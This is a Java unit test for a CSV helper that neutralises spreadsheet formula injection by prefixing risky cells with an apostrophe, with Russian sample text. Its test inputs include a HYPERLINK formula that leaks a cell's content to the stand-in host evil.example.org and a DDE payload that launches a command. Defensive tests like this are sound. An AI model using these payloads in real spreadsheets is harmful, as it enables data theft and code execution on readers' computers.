package org.sovet.document;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** Free text in a CSV stays text in Excel: nothing a member typed runs as a formula on the reader's computer. */
class SpreadsheetCsvTest {

    @Test
    void shouldNeutraliseCellsExcelWouldTakeForAFormula() {
        assertThat(SpreadsheetCsv.text("=HYPERLINK(\"https://evil.example.org/?\"&A1;\"Отчёт\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"https://evil.example.org/?\"\"&A1;\"\"Отчёт\"\")\"");
        assertThat(SpreadsheetCsv.text("+7 (83341) 2-11-00")).isEqualTo("\"'+7 (83341) 2-11-00\"");
        assertThat(SpreadsheetCsv.text("-2+3+cmd|' /C calc'!A0")).startsWith("\"'-2+3");
        assertThat(SpreadsheetCsv.text("@SUM(1+1)")).isEqualTo("\"'@SUM(1+1)\"");
        assertThat(SpreadsheetCsv.text("\t=1+1")).isEqualTo("\"'\t=1+1\"");
        assertThat(SpreadsheetCsv.text("\r=1+1")).isEqualTo("\"'\r=1+1\"");
    }

    @Test
    void shouldLeaveOrdinaryTextAsWritten() {
        assertThat(SpreadsheetCsv.text("Опорной школе составить график (срок — апрель)")).isEqualTo("\"Опорной школе составить график (срок — апрель)\"");
        assertThat(SpreadsheetCsv.text("за — 8; против — нет")).isEqualTo("\"за — 8; против — нет\"");
        assertThat(SpreadsheetCsv.text("")).isEqualTo("\"\"");
        assertThat(SpreadsheetCsv.text(null)).isEmpty();
    }
}
